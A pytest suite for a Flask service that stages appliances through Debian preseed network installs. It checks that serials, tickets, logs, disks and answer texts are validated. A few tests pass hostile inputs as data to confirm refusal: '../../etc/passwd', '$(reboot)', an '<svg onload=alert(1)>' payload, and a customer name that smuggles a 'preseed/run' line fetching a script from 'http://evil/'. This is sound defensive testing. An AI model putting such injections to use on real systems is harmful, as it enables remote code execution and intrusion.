"""Does the bench answer, remember and show what its boxes do? The real store behind the real doors, a box by hand."""

import io
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select

from preseed.appliance import missing_answers, wazo_distribution
from preseed.links import Tickets
from preseed.own import Own
from staging.adapters import install_office
from staging.adapters.store.installs import FetchLine
from staging.adapters.store.tables import fetches
from staging.bootstrap import House, make_bench_app, open_house
from staging.core.faults import PreseedRefused, Refused
from staging.core.words import Serial
from staging.desk import answer_texts, bench, bench_own
from staging.desk.bench_screen import bench_rows, box_row
from staging.settings import Settings
from tests.fakes.house import BY, environ, make_house, ready_box
from tests.fakes.preseed import AUTHORITY

SERIAL = Serial("SN0042")
HERE, THERE = "192.0.2.42", "192.0.2.99"
DISKS = (
    "sda 488281250 0 0 0 0 0 Samsung SSD 870\nsdb 488281250 0 0 0 0 1 Samsung SSD 870\nsdc 62500000 1 0 1 0 1 Ultra\n"
)


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    made = make_house(tmp_path / "home")
    yield made
    made.store.database.close()


@pytest.fixture
def client(house: House) -> FlaskClient:
    return make_bench_app(house, base="http://preseed").test_client()


def hello(client: FlaskClient, *, address: str = HERE, mac: str = "020000000042", **facts: str) -> None:
    lines = {"serial": SERIAL, "suite": "bookworm", "mac": mac, **facts}
    body = "".join(f"{name}={value}\n" for name, value in lines.items())
    assert client.post("/hooks/hello", data=body, environ_base={"REMOTE_ADDR": address}).status_code == 202


def ask(client: FlaskClient, serial: str = SERIAL, *, address: str = HERE) -> tuple[int, str]:
    answer = client.get(f"/preseed/{serial}", environ_base={"REMOTE_ADDR": address})
    return answer.status_code, answer.text


def armed(house: House, client: FlaskClient) -> Tickets:
    """A box that said hello, was armed, and fetched its answers."""
    ready_box(house, SERIAL)
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert ask(client)[0] == 200
    return house.office.preseed_needs("http://preseed").open_tickets(SERIAL)


def step(client: FlaskClient, tickets: Tickets, name: str, *, failed: bool = False, detail: str = "") -> int:
    return client.post(
        f"/hooks/install/{tickets.report}/step/{name}{'?failed=1' if failed else ''}", data=detail
    ).status_code  # fmt: skip


def on_screen(house: House) -> tuple[str, str]:
    (row,) = bench_rows(house.desk)
    return row.urgency, row.what


# --- who is answered, and what is written down of it ---


def test_every_fetch_is_written_down_whoever_asked(house: House, client: FlaskClient) -> None:
    armed(house, client)
    ask(client, address=THERE)
    for asked in ("../../etc/passwd", "$(reboot)", "SN 42", "x" * 300, "SN9999"):
        client.get("/preseed/" + asked.replace("/", "%2f"), environ_base={"REMOTE_ADDR": THERE})
    house.office.flush()
    assert [line.status for line in house.store.installs.fetches_of(SERIAL)] == [403, 200]
    odd = bench.odd_requests(house.desk)
    assert {line.status for line in odd} == {404}
    assert {"$(reboot)", "SN 42", "x" * 64, "SN9999"} <= {line.serial for line in odd}
    assert all(line.code == "unknown-serial" and line.line.startswith("unknown serial") for line in odd)


def test_two_boxes_with_one_serial_are_both_kept_waiting_until_one_is_off(house: House, client: FlaskClient) -> None:
    ready_box(house, SERIAL)
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    hello(client, address=THERE, mac="020000000099")
    hello(client)
    for address in (HERE, THERE):
        status, line = ask(client, address=address)
        assert (status, line.startswith("two boxes say SN0042: ")) == (403, True)
    assert on_screen(house) == ("hand", "two-boxes")


def test_a_second_box_cannot_take_the_place_of_one_that_was_answered(house: House, client: FlaskClient) -> None:
    armed(house, client)
    hello(client, address=THERE, mac="020000000099")
    assert ask(client, address=THERE)[0] == 403
    assert ask(client)[0] == 200, "its installer fetches once more by itself"


def test_a_second_box_is_named_beside_the_first_as_soon_as_it_says_hello(house: House, client: FlaskClient) -> None:
    ready_box(house, SERIAL)
    hello(client)
    hello(client, address=THERE, mac="020000000099")
    told = house.store.appliances.get(SERIAL).trouble or {}
    line = next(line for line in house.store.timeline.of_serial(SERIAL) if line.event == "answers-refused")
    for facts in (told, line.facts):
        assert {facts["address"], facts["other"]} == {HERE, THERE}


@pytest.mark.parametrize("mac", ["020000000099", ""])
def test_who_says_hello_in_anothers_name_does_not_get_its_answers(house: House, client: FlaskClient, mac: str) -> None:
    ready_box(house, SERIAL)
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    hello(client, address=THERE, mac=mac)
    assert ask(client, address=THERE)[0] == 403
    assert on_screen(house) == ("hand", "two-boxes")


def test_a_box_whose_address_changed_is_no_second_box(house: House, client: FlaskClient) -> None:
    armed(house, client)
    hello(client, address=THERE)
    assert ask(client, address=THERE)[0] == 200


def test_each_ticket_does_one_thing_and_a_box_tells_nothing_of_another(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    assert len({tickets.read, tickets.report, tickets.logs, tickets.register}) == 4
    hooks = {"report": "step/early", "logs": "log", "register": "engine-ready"}
    for scope, path in hooks.items():
        for ticket in (tickets.read, tickets.report, tickets.logs, tickets.register):
            status = client.post(f"/hooks/install/{ticket}/{path}", data="address=192.0.2.7").status_code
            assert (status == 202) == (ticket == getattr(tickets, scope)), (scope, ticket)
            if status == 202 and scope == "register":
                break
    assert client.get(f"/preseed/SN0043/{tickets.read}/late.sh").status_code == 403


def test_the_last_phase_ends_every_ticket(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    client.post(f"/hooks/install/{tickets.register}/engine-ready", data="address=192.0.2.7\nversion=26.08\n")
    assert step(client, tickets, "early") == 403
    assert client.get(f"/preseed/{SERIAL}/{tickets.read}/late.sh").status_code == 403


def test_an_engine_that_says_twice_that_it_is_ready_is_answered_and_changes_nothing(
    house: House, client: FlaskClient
) -> None:
    tickets = armed(house, client)
    ready = f"/hooks/install/{tickets.register}/engine-ready"
    for address in ("192.0.2.7", "192.0.2.8"):
        assert client.post(ready, data=f"address={address}\n").status_code == 202
    assert house.store.appliances.get(SERIAL).address == "192.0.2.7"
    assert [line.event for line in house.store.timeline.of_serial(SERIAL)].count("engine-ready") == 1
    bench.arm(house.desk, SERIAL, by=BY, role="technician", reason="disque changé")
    assert client.post(ready, data="address=192.0.2.9\n").status_code == 403


def test_a_box_that_was_taken_as_it_is_starts_from_its_disk_and_was_never_answered(
    house: House, client: FlaskClient
) -> None:
    ready_box(house, SERIAL)
    bench.adopt(house.desk, SERIAL, by=BY)
    assert "exit" in client.get(f"/boot.ipxe?serial={SERIAL}").text.splitlines()[-1]
    hello(client)
    assert ask(client) == (403, "SN0042 is not armed\n")


def test_a_box_whose_first_boot_can_report_no_more_is_taken_as_it_is_and_one_that_installs_is_not(
    house: House, client: FlaskClient
) -> None:
    tickets = armed(house, client)
    with pytest.raises(Refused, match="already-ready"):
        bench.adopt(house.desk, SERIAL, by=BY)
    client.post(f"/hooks/install/{tickets.report}/installed")
    installed_at = house.store.appliances.get(SERIAL).installed_at
    house.store.installs.end_tickets(SERIAL)
    box = bench.adopt(house.desk, SERIAL, by=BY)
    assert box.engine_ready_at is not None
    assert box.installed_at == installed_at


def test_a_ticket_of_an_earlier_arming_is_worth_nothing(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert step(client, tickets, "early") == 403
    assert ask(client)[0] == 200
    assert step(client, tickets, "early") == 403


def test_after_partitioned_a_network_boot_starts_the_disk_until_it_is_armed_again(
    house: House, client: FlaskClient
) -> None:
    tickets = armed(house, client)
    boot = f"/boot.ipxe?serial={SERIAL}"
    assert "kernel http://" in client.get(boot).text
    step(client, tickets, "early")
    step(client, tickets, "partitioned")
    script = client.get(boot).text
    assert "kernel" not in script
    assert script.splitlines()[-1].startswith("exit")
    assert ask(client)[0] == 403
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert "kernel http://" in client.get(boot).text
    assert house.store.appliances.get(SERIAL).restage, "what stands on the disk is ours"


def test_a_box_that_waits_at_its_network_boot_is_on_the_bench_at_once(house: House, client: FlaskClient) -> None:
    boot = {"serial": SERIAL, "mac": "02:00:00:00:00:42", "asset": "Default string"}
    for _ in range(3):
        assert "not registered" in client.get("/boot.ipxe", query_string=boot).text
    (stranger,) = bench.strangers(house.desk)
    assert (stranger.serial, stranger.facts["mac"]) == (SERIAL, "020000000042")
    ready_box(house, SERIAL)
    assert "not armed" in client.get("/boot.ipxe", query_string=boot).text
    assert on_screen(house) == ("hand", "not-armed")
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert ask(client) == (403, f"{SERIAL} has not said hello from {HERE}\n")
    hello(client, address=THERE)
    assert "twin" not in house.store.appliances.get(SERIAL).facts, (
        "its installer has another address, and the same card"
    )


def test_an_armed_box_that_lacks_something_says_so_from_its_network_boot_on(tmp_path: Path) -> None:
    settings = {**environ(tmp_path / "home"), "STAGING_ANSIBLE_URL": ""}
    house = open_house(Settings.read(settings))
    house.store.database.upgrade()
    client = make_bench_app(house, base="http://preseed").test_client()
    ready_box(house, SERIAL)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert "is incomplete" in client.get(f"/boot.ipxe?serial={SERIAL}").text
    assert on_screen(house) == ("hand", "appliance-incomplete")
    house.store.database.close()


def test_a_box_without_a_serial_of_its_own_is_known_by_its_card_or_tag_once_it_said_hello(
    house: House, client: FlaskClient
) -> None:
    unnamed = {"serial": "To be filled by O.E.M.", "mac": "02:00:00:00:00:42", "asset": "SALLE-3"}
    assert "url=http://preseed/d-i/" in client.get("/boot.ipxe", query_string=unnamed).text
    assert bench.strangers(house.desk) == ()
    hello(client, chassis_asset_tag="SALLE-3")
    ready_box(house, SERIAL)
    for known in ({"mac": unnamed["mac"]}, {"asset": unnamed["asset"]}):
        script = client.get("/boot.ipxe", query_string={"serial": unnamed["serial"], **known}).text
        assert f"{SERIAL} is not armed" in script
    other = client.get("/boot.ipxe", query_string={"serial": "SN0099", "asset": "SALLE-3"}).text
    assert "not registered" in other


def test_two_boxes_that_ask_in_turns_are_both_named_and_fill_no_timeline(house: House, client: FlaskClient) -> None:
    ready_box(house, SERIAL)
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    hello(client, address=THERE, mac="020000000099")
    for _ in range(10):
        ask(client)
        ask(client, address=THERE)
    (row,) = bench_rows(house.desk)
    assert {row.facts["address"], row.facts["other"]} == {HERE, THERE}
    lines = [line for line in house.store.timeline.of_serial(SERIAL) if line.event == "answers-refused"]
    assert len(lines) <= 3


def test_who_asks_from_elsewhere_hides_nothing_that_the_box_itself_reported(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    client.post(f"/hooks/install/{tickets.report}/disks", data=DISKS)
    step(client, tickets, "disk-refused", failed=True)
    assert ask(client, address=THERE)[0] == 403
    assert on_screen(house) == ("hand", "disk-choice")


def test_a_refusal_that_nobody_asks_about_any_more_leaves_the_screen(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    step(client, tickets, "early")
    client.post(f"/hooks/install/{tickets.register}/engine-ready", data="address=192.0.2.7\n")
    assert ask(client, address=THERE)[0] == 403
    assert on_screen(house) == ("hand", "answers-used")
    trouble = dict(house.store.appliances.get(SERIAL).trouble or {})
    long_ago = (house.desk.clock.now() - timedelta(minutes=5)).isoformat()
    house.store.appliances.change(SERIAL, trouble={**trouble, "asked_at": long_ago})
    assert on_screen(house) == ("ready", "bench-box-ready")


def test_how_long_a_box_waits_is_counted_from_its_first_refusal(house: House, client: FlaskClient) -> None:
    bench.register_box(house.desk, SERIAL, model="DH470", customer="Atelier Bleu", by=BY)
    hello(client)
    ask(client)
    trouble = dict(house.store.appliances.get(SERIAL).trouble or {})
    began = house.desk.clock.now() - timedelta(minutes=2)
    house.store.appliances.change(SERIAL, trouble={**trouble, "since": began.isoformat()})
    hello(client)
    ask(client)
    (row,) = bench_rows(house.desk)
    assert (row.what, row.since) == ("not-armed", began)
    hello(client, address=THERE, mac="020000000099")
    ask(client)
    (row,) = bench_rows(house.desk)
    assert (row.what, row.since) == ("two-boxes", began), "another that says the same serial begins nothing anew"


def test_a_flood_of_strangers_is_one_tile_and_hides_no_box(house: House, client: FlaskClient) -> None:
    hello(client, address=HERE)
    for number in range(150):
        house.store.appliances.hello(f"JUNK{number:04}", address=THERE, facts={})
    found = bench.strangers(house.desk)
    assert len(found) == 101, "a hundred of one address are kept"
    waiting, crowds = bench.apart(found)
    assert ([one.serial for one in waiting], crowds) == ([SERIAL], {THERE: 100})


def test_a_shelf_behind_one_router_is_no_flood(house: House) -> None:
    for number in range(60):
        house.store.appliances.hello(f"SN{number:04}", address=HERE, facts={})
    waiting, crowds = bench.apart(bench.strangers(house.desk))
    assert (len(waiting), crowds) == (60, {})


def test_a_stranger_waits_since_its_first_hello_and_anew_after_a_silence(house: House, client: FlaskClient) -> None:
    hello(client)
    (first,) = bench.strangers(house.desk)
    hello(client)
    (again,) = bench.strangers(house.desk)
    assert again.first_at == first.first_at
    assert again.at >= first.at


def test_reports_that_were_not_taken_are_on_the_bench_and_a_flood_of_them_is_not(
    house: House, client: FlaskClient
) -> None:
    tickets = armed(house, client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    for _ in range(70):
        assert step(client, tickets, "base-begin") == 403
    assert client.get(f"/preseed/{SERIAL}/{tickets.read}/late.sh").status_code == 403
    house.office.flush()
    odd = {(line.serial, line.status, line.code) for line in bench.odd_requests(house.desk)}
    assert odd == {
        ("/hooks/install/…/step/base-begin", 403, "hook-unknown-ticket"), ("SN0042/…/late.sh", 403, "unknown-ticket")
    }  # fmt: skip
    # Thirty a minute, and the clock may begin another one meanwhile.
    assert 30 <= len(house.store.installs.fetches_of("/hooks/install/…/step/base-begin", limit=99)) <= 60


@pytest.mark.parametrize("path", ["/preseed/SN9999", f"/preseed/{SERIAL}/guessed/late.sh"])
def test_a_flood_of_refused_questions_fills_no_table(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    monkeypatch.setattr(install_office, "_UNANSWERED_PER_MINUTE", 5)
    house = make_house(tmp_path / "home")
    client = make_bench_app(house, base="http://preseed").test_client()
    for _ in range(12):
        assert client.get(path, environ_base={"REMOTE_ADDR": THERE}).status_code in (403, 404)
    house.office.flush()
    with house.store.database.read() as connection:
        written = connection.scalar(select(func.count()).select_from(fetches))
    house.store.database.close()
    # Five a minute, and the clock may begin another one meanwhile.
    assert written in range(5, 11)


def test_ten_thousand_junk_serials_hide_no_other_request(house: House, client: FlaskClient) -> None:
    ask(client, "SN9999", address=HERE)
    house.office.flush()
    now = house.desk.clock.now()
    junk = (
        FetchLine(now, f"JUNK{number:05}", THERE, 404, "unknown serial", "unknown-serial") for number in range(10_000)
    )
    house.store.installs.note_fetches(junk)
    odd = bench.odd_requests(house.desk)
    assert [line.serial for line in odd if line.address == HERE] == ["SN9999"]
    assert len(odd) == 6


def test_refusals_go_after_three_days_and_answers_after_a_month(house: House) -> None:
    now = house.desk.clock.now()
    old = [
        FetchLine(now - timedelta(days=days), SERIAL, HERE, status)
        for days in (2, 4, 31) for status in (200, 403)
    ]  # fmt: skip
    house.store.installs.note_fetches(old)
    house.store.installs.note_fetches([FetchLine(now, SERIAL, HERE, 200)])
    kept = [(round((now - line.at).days), line.status) for line in house.store.installs.fetches_of(SERIAL)]
    assert sorted(kept) == [(0, 200), (2, 200), (2, 403), (4, 200)]


def test_what_one_box_is_told_alone_is_in_its_answers_and_scripts(house: House, client: FlaskClient) -> None:
    ready_box(house, SERIAL)
    own = Own(
        hostname="standard", keyboard="us", address="192.0.2.10/24", gateway="192.0.2.1", nameservers=("192.0.2.1",),
        packages=("tcpdump",), disk_maximum_gb="500", disk_models=("Samsung SSD",),
    )  # fmt: skip
    bench_own.keep_own(house.desk, SERIAL, own, by=BY)
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    status, answers = ask(client)
    assert status == 200
    assert "xkb-keymap select us" in answers
    assert " tcpdump\n" in answers
    ticket = house.office.preseed_needs("http://preseed").open_tickets(SERIAL).read
    scripts = [client.get(f"/preseed/{SERIAL}/{ticket}/{name}").text for name in ("early.sh", "late.sh")]
    assert "name=standard" in scripts[0]
    assert "'Samsung SSD'*" in scripts[0]
    assert "address 192.0.2.10/24" in scripts[1]
    assert "nameserver 192.0.2.1" in scripts[1]


def test_what_no_box_can_be_told_is_not_kept(house: House) -> None:
    ready_box(house, SERIAL)
    with pytest.raises(Refused) as caught:
        bench_own.keep_own(house.desk, SERIAL, Own(keyboard="fr", packages=("a b",)), by=BY)
    assert [fault.code for fault in caught.value.faults] == ["own-keyboard", "own-packages"]
    assert house.store.appliances.get(SERIAL).overrides == {}


# --- how long, and why it stopped ---


def test_a_box_that_is_slower_than_any_before_is_late_by_so_much(house: House, client: FlaskClient) -> None:
    for seconds in (300, 320, 400):
        house.store.installs.phase_took(SERIAL, "base-begin", seconds)
    tickets = armed(house, client)
    step(client, tickets, "base-begin")
    began = house.desk.clock.now() - timedelta(seconds=440)
    house.store.appliances.change(SERIAL, phase_at=began)
    row = box_row(house.desk, house.store.appliances.get(SERIAL))
    assert (row.urgency, row.what) == ("late", "bench-late")
    assert (row.facts["late"], row.facts["slowest"]) == ("40 s", "6 min")


def test_a_box_that_stops_beating_is_silent_and_its_restart_is_not(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    step(client, tickets, "base-begin")
    long_ago = house.desk.clock.now() - timedelta(minutes=5)
    house.store.appliances.change(SERIAL, beat_at=long_ago, phase_at=long_ago)
    assert on_screen(house) == ("late", "bench-silent")
    client.post(f"/hooks/install/{tickets.report}/installed")
    house.store.appliances.change(SERIAL, beat_at=long_ago, phase_at=long_ago)
    assert on_screen(house) == ("busy", "waits-engine")


def test_an_installer_that_took_its_answers_and_never_reported_is_silent(house: House, client: FlaskClient) -> None:
    ready_box(house, SERIAL)
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert on_screen(house) == ("busy", "waits-installer")
    assert ask(client)[0] == 200
    assert on_screen(house) == ("busy", "waits-engine")
    house.store.appliances.change(SERIAL, first_fetch_at=house.desk.clock.now() - timedelta(minutes=5))
    (row,) = bench_rows(house.desk)
    assert (row.urgency, row.what, row.facts["minutes"]) == ("late", "bench-silent", 5)


def test_the_length_of_each_phase_is_learnt_from_what_boxes_report(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    for name in ("early", "disk-chosen", "base-begin"):
        step(client, tickets, name)
    assert set(house.store.installs.paces()) == {"early", "disk-chosen"}


def test_a_question_on_its_screen_is_named_and_goes_when_it_is_answered(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    step(client, tickets, "early")
    client.get(f"/hooks/install/{tickets.report}/alive?step=choose-mirror&question=mirror/bad")
    (row,) = bench_rows(house.desk)
    assert (row.urgency, row.what, row.facts["question"]) == ("hand", "bench-question", "mirror/bad")
    client.get(f"/hooks/install/{tickets.report}/alive?step=choose-mirror&question=")
    assert on_screen(house)[0] == "busy"


def test_a_failure_brings_its_log_in_pieces_and_the_first_line_that_tells_why(
    house: House, client: FlaskClient
) -> None:
    tickets = armed(house, client)
    step(client, tickets, "bootstrap-base-failed", failed=True, detail="failed with error code 1")
    log = b"x" * 100 + b"\nE: Failed to fetch http://mirror.bench.lan/debian/pool/x.deb\nlater: I/O error\n"
    for offset in range(0, len(log), 64):
        url = f"/hooks/install/{tickets.logs}/log?name=installer&upload=a&offset={offset}"
        assert client.post(url, data=log[offset : offset + 64]).status_code == 202
    ((_, name, body),) = house.store.installs.logs(SERIAL)
    assert (name, body) == ("installer", log)
    row = box_row(house.desk, house.store.appliances.get(SERIAL))
    assert (row.urgency, row.what) == ("hand", "cause-mirror")
    assert row.facts["line"] == "E: Failed to fetch http://mirror.bench.lan/debian/pool/x.deb"


def test_a_log_of_any_length_keeps_four_megabytes(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    piece = b"y" * 1024 * 1024
    for number in range(6):
        url = f"/hooks/install/{tickets.logs}/log?upload=b&offset={number * len(piece)}"
        assert client.post(url, data=piece).status_code == 202
    assert [len(body) for _, _, body in house.store.installs.logs(SERIAL)] == [4 * 1024 * 1024]
    told = {"CONTENT_LENGTH": str(2 * 10**9)}
    assert client.post(f"/hooks/install/{tickets.logs}/log", environ_overrides=told).status_code == 413


# --- the disk ---


def test_a_person_chooses_a_disk_that_the_box_showed_and_no_stick(house: House, client: FlaskClient) -> None:
    tickets = armed(house, client)
    client.post(f"/hooks/install/{tickets.report}/disks", data=DISKS)
    step(client, tickets, "disk-refused", failed=True)
    assert on_screen(house) == ("hand", "disk-choice")
    assert client.get(f"/hooks/install/{tickets.report}/disk").text == "\n"
    for name, sectors in (("sdc", "62500000"), ("sda", "1"), ("sdz", "488281250")):
        with pytest.raises(Refused):
            bench.choose_disk(house.desk, SERIAL, name, sectors=sectors, by=BY)
    bench.choose_disk(house.desk, SERIAL, "sdb", sectors="488281250", by=BY)
    assert client.get(f"/hooks/install/{tickets.report}/disk").text == "sdb 488281250\n"


# --- the checklist ---


def test_facts_tick_what_they_prove_and_stop_what_they_contradict(house: House, client: FlaskClient) -> None:
    bench.register_box(house.desk, SERIAL, model="DH470", customer=None, by=BY)
    hello(client, memory="8123456 kB", cards="2")
    assert house.store.appliances.get(SERIAL).checklist["ram"]["by"] == "installer"
    hello(client, memory="3900000 kB", cards="2")
    assert not house.store.appliances.get(SERIAL).checklist["ram"]
    for point in ("ram", "ssd", "bios-power", "stickers"):
        bench.scan(house.desk, SERIAL, f"tick-{point}", by=BY)
    with pytest.raises(Refused, match="checklist-contradicted"):
        bench.arm(house.desk, SERIAL, by=BY, role="technician")
    bench.arm(house.desk, SERIAL, by=BY, role="technician", reason="commande à 4 Go")


@pytest.mark.parametrize("code", ["TICK-NOTHING", "RAM", "", "TICK-", "x" * 500])
def test_another_code_ticks_nothing(house: House, code: str) -> None:
    ready_box(house, SERIAL)
    with pytest.raises(Refused, match="unknown-checklist-code"):
        bench.scan(house.desk, SERIAL, code, by=BY)


@pytest.mark.parametrize("typed", ["To be filled by O.E.M.", "0123456789", "DEFAULT", "00000000"])
def test_a_filler_of_the_bios_is_not_registered(house: House, typed: str) -> None:
    with pytest.raises(Refused):
        bench.register_box(house.desk, typed, model="DH470", customer=None, by=BY)


@pytest.mark.parametrize("customer", ["Atelier\nd-i preseed/run string http://evil/", "x" * 300, "Atelier \u202e Bleu"])
def test_a_customer_that_no_label_could_show_is_not_registered(house: House, customer: str) -> None:
    with pytest.raises(Refused):
        bench.register_box(house.desk, SERIAL, model="DH470", customer=customer, by=BY)
    assert house.store.appliances.find(SERIAL) is None


# --- answers of our own ---


def test_a_text_is_tried_on_every_box_and_shown_before_it_is_kept(house: House, client: FlaskClient) -> None:
    ready_box(house, SERIAL)
    bench.register_box(house.desk, "SN0043", model="DH470", customer="Atelier Bleu", by=BY)
    shown = answer_texts.preview_text(
        house.desk, "customer", "Atelier Bleu", "d-i time/zone string Indian/Reunion\n"
    )  # fmt: skip
    assert (shown.ok, shown.rendered, [change.serial for change in shown.changed]) == (True, 2, ["SN0043", "SN0042"])
    assert shown.changed[0].lines == ("-d-i time/zone select Europe/Paris", "+d-i time/zone string Indian/Reunion")
    assert house.store.installs.templates() == ()
    kept = answer_texts.keep_text(
        house.desk, "customer", "Atelier Bleu", shown.body, expect=shown.fingerprint, by=BY
    )  # fmt: skip
    assert kept.ok
    hello(client)
    bench.arm(house.desk, SERIAL, by=BY, role="technician")
    assert "d-i time/zone string Indian/Reunion" in ask(client)[1]


@pytest.mark.parametrize(("scope", "name"), [("tout", ""), ("customer", " "), ("customer", "x" * 129), ("box", "a\nb")])
def test_a_text_is_for_somebody_who_can_be_named(house: House, scope: str, name: str) -> None:
    with pytest.raises(Refused, match="unknown-text-scope"):
        answer_texts.preview_text(house.desk, scope, name, "d-i time/zone string Indian/Reunion\n")


def test_a_text_that_one_box_could_not_be_installed_with_is_not_kept(house: House) -> None:
    ready_box(house, SERIAL)
    for body in ("d-i keyboard-configuration/xkb-keymap select fr\n", "d-i a/b string {{ nothing }}\n"):
        with pytest.raises(PreseedRefused):
            answer_texts.keep_text(house.desk, "bench", "", body, expect=None, by=BY)
    assert house.store.installs.templates() == ()
    (change,) = answer_texts.preview_text(house.desk, "bench", "", "d-i preseed/run string x\n").changed
    assert ([fault.code for fault in change.faults], change.lines) == (["template-protected"], ())


def test_what_changed_since_it_was_shown_is_shown_again(house: House) -> None:
    ready_box(house, SERIAL)
    shown = answer_texts.preview_text(house.desk, "bench", "", "d-i time/zone string Europe/Berlin\n")
    bench.register_box(house.desk, "SN0044", model="DH470", customer=None, by=BY)
    with pytest.raises(Refused, match="text-changed-since"):
        answer_texts.keep_text(house.desk, "bench", "", shown.body, expect=shown.fingerprint, by=BY)


def test_a_kept_text_counts_at_once_for_a_box_that_was_answered_before(house: House, client: FlaskClient) -> None:
    armed(house, client)
    answer_texts.keep_text(house.desk, "box", SERIAL, "d-i time/zone string Europe/Madrid\n", expect=None, by=BY)
    assert "Europe/Madrid" in ask(client)[1]
    answer_texts.keep_text(house.desk, "box", SERIAL, "", expect=None, by=BY)
    assert "Europe/Madrid" not in ask(client)[1]


def test_a_photo_is_kept_and_nothing_else_is(house: House) -> None:
    ready_box(house, SERIAL)
    bench.keep_photo(house.desk, SERIAL, "stickers", b"\xff\xd8\xff" + b"x" * 100, by=BY)
    assert [photo.point for photo in house.store.installs.photos(SERIAL)] == ["stickers"]
    with pytest.raises(Refused, match="photo-unusable"):
        bench.keep_photo(house.desk, SERIAL, "ram", io.BytesIO(b"<svg onload=alert(1)>").read(), by=BY)


def test_settings_name_whom_boxes_trust_and_wazo_s_packages_where_we_know_none(tmp_path: Path) -> None:
    (tmp_path / "authority.pem").write_text(AUTHORITY)
    given = {"STAGING_WAZO_DISTRIBUTION": "pelican-trixie", "STAGING_AUTHORITY_FILE": str(tmp_path / "authority.pem")}
    house = open_house(Settings.read({**environ(tmp_path / "home"), **given}))
    house.store.database.upgrade()
    found = []
    for serial, suite in (("SN0042", "trixie"), ("SN0043", "bookworm")):
        bench.register_box(house.desk, serial, model="DH470", customer="Atelier Bleu", by=BY, suite=suite)
        box = house.office.find_appliance(Serial(serial))
        assert box is not None
        found.append((wazo_distribution(box), box.authorities, missing_answers(box)))
    house.store.database.close()
    assert found == [("pelican-trixie", (AUTHORITY,), ()), ("pelican-bookworm", (AUTHORITY,), ())]
